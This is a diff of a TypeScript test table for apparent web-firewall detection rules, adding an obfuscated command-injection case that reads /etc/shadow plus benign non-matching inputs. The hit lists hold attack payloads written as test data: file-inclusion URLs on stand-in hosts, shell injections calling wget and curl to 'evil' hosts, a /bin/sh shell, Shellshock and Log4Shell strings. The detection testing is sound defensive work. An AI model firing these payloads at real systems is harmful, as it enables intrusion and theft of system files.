@@ -30,7 +30,7 @@ const CASES: Record<string, { hit: RequestInput[], miss: RequestInput[] }> = {
   100401: { hit: [q('php://filter/resource=index'), q('expect://id')], miss: [q('https://shop.example/a')] },
   100402: { hit: [q('http://evil.example/shell.txt?'), q('http://203.0.113.9/x.php')], miss: [q('https://shop.example/search?q=shoes')] },
   100501: { hit: [q('1;cat /etc/passwd'), q('x | wget http://evil/x'), q('a && whoami'), q('$(id)')], miss: [q('cats and dogs; id card')] },
-  100505: { hit: [q('x|c^a^t /etc/passwd'), q('a&&w"h"o"a"m"i')], miss: [q('fish & chips')] },
+  100505: { hit: [q('x|c^a^t /etc/passwd'), q('a&&w"h"o"a"m"i'), q("1;c\\a't /etc/shadow")], miss: [q('fish & chips'), q('cats and dogs; id card'), q('a; catalogue')] },
   100502: { hit: [q('$(curl http://evil)'), q('`id`'), q('a;/bin/sh -i'), q('${IFS}')], miss: [q('price $(5)')] },
   100503: { hit: [ua('() { :; }; /bin/bash -c id')], miss: [ua('Mozilla/5.0 (compatible)')] },
   100504: { hit: [q('${jndi:ldap://evil/a}'), ua('${${lower:j}ndi:ldap://x}')], miss: [q('${price}')] },
